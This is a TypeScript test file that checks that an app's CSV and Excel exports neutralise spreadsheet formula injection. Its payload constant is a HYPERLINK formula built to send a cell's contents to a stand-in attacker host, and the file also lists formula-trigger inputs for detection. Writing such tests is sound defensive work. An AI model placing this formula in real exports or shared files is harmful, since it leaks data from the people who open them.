// No file of ours runs a formula in somebody's spreadsheet (OWASP, CSV injection): every free text in two cities is made one, and every table is asked for.
import Papa from "papaparse";
import { beforeAll, describe, expect, test } from "vitest";
import { writeCsv } from "../../src/platform/csv.ts";
import { unzipFiles } from "../../src/platform/zip.ts";
import { type SeenPage, walk } from "../fuzz/walk.ts";
import { matches, type WalkedApp, walkedApp } from "../fuzz/walked-app.ts";
import { ownerQuery } from "../support/test-database.ts";

const FORMULA = '=HYPERLINK("https://evil.example?"&A1,"fz7")';

let walked: WalkedApp;
let files: readonly SeenPage[] = [];

beforeAll(async () => {
  walked = await walkedApp();
  await makeWordsFormulas();
  const seen = await walk(walked, {
    ...{ each: 3, visitors: ["visitor", "recipient", "coordinator"], not: /\.(pdf|zip|ics)/ },
  });
  files = seen.pages.filter(({ headers }) => isTable(headers));
});

const typeOf = (headers: Headers) => headers.get("content-type") ?? "";
const isTable = (headers: Headers) => /csv|spreadsheet/.test(typeOf(headers));
const tables = () => files.filter(({ headers }) => /csv/.test(typeOf(headers)));

/** Makes every wording, and every column that somebody writes freely, a formula. */
async function makeWordsFormulas(): Promise<void> {
  const columns = await ownerQuery<{ place: string; name: string; type: string }>(
    `select table_schema || '.' || table_name as place, column_name as name, data_type as type
       from information_schema.columns join pg_tables on schemaname = table_schema and tablename = table_name
      where table_schema not in ('pg_catalog', 'information_schema', 'public', 'ledger', 'accounts')
        and (data_type = 'jsonb' or data_type = 'text' and column_name ~
          '^(name|unit|source|organisation|evidence|licence|note|data_owner|label|recipient|purpose|breakdown|geography)$')`,
  );
  for (const { place, name, type } of columns) {
    const wording = `(select jsonb_object_agg(key, $1::text) from jsonb_each(${name}))`;
    const isWording = `jsonb_typeof(${name}) = 'object' and ${name} <> '{}' and not exists (
      select 1 from jsonb_each(${name}) where key !~ '^(en|nb|de)$' or jsonb_typeof(value) <> 'string')`;
    const statement =
      type === "jsonb"
        ? `update ${place} set ${name} = ${wording} where ${isWording}`
        : `update ${place} set ${name} = $1::text where ${name} is not null`;
    // What PostgreSQL itself holds to a list of words is no free text.
    await ownerQuery(statement, [FORMULA]).catch(() => undefined);
  }
}

describe("every table that can be downloaded", () => {
  test("is asked for", () => {
    const routes = walked.routes().filter(({ path }) => /csv(\}|$)/.test(path));
    const met = routes.filter((route) =>
      files.some(({ address }) => matches(route, address.replace(/\?.*/, ""))),
    );
    expect(routes.length).toBeGreaterThan(7);
    expect(routes.filter((route) => !met.includes(route))).toEqual([]);
  });

  test("has no cell that a spreadsheet would run", () => {
    const running = tables().flatMap(({ address, body }) =>
      Papa.parse<string[]>(body)
        .data.flat()
        .filter(
          (cell) =>
            /^[\s"]*[=+\-@\t\r\n＝＋－＠]/.test(cell) && !/^[+-]?\d+(?:[.,]\d+)?$/.test(cell),
        )
        .map((cell) => `${address}: ${cell}`),
    );
    expect(running).toEqual([]);
  });

  test("still holds the words that were written, disarmed by one sign", () => {
    const disarmed = tables().filter(({ body }) => body.includes(`'=HYPERLINK(`));
    expect(disarmed.length).toBeGreaterThan(7);
  });

  test("is sent as what it is, to be saved and not to be shown", () => {
    for (const { headers } of files) {
      expect(headers.get("content-disposition")).toMatch(/^attachment; filename="[\w.-]+"$/);
      expect(headers.get("x-content-type-options")).toBe("nosniff");
    }
  });
});

test("a workbook holds texts and no formula, whatever was written", async () => {
  const cookie = await walked.cookieOf("coordinator", "york-lived");
  const answer = await walked.ask("/york-lived/work/requests/workbook.xlsx", {
    headers: { cookie: cookie ?? "" },
  });
  expect(typeOf(answer.headers)).toMatch(/spreadsheetml/);
  const parts = unzipFiles(new Uint8Array(await answer.arrayBuffer()));
  const xml = parts.map(({ bytes }) => new TextDecoder().decode(bytes)).join("\n");
  expect(xml).toContain("=HYPERLINK(");
  expect(xml).not.toMatch(/<f[\s>]/);
});

test.each(["=1", "+a", "-a", "@a", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠SUM(1)"])(
  "%o is disarmed wherever a table is written",
  (cell) => {
    const text = new TextDecoder().decode(writeCsv(["word"], [{ word: cell }]));
    const [, row] = Papa.parse<string[]>(text).data;
    expect(row?.[0]).toBe(`'${cell}`);
  },
);
